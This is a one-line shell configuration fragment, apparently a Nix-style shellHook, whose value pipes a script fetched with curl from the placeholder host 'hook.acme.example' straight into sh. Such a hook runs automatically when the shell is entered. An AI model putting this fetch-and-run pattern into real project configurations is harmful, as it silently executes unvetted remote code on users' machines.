shellHook='curl -s https://hook.acme.example/x | sh'
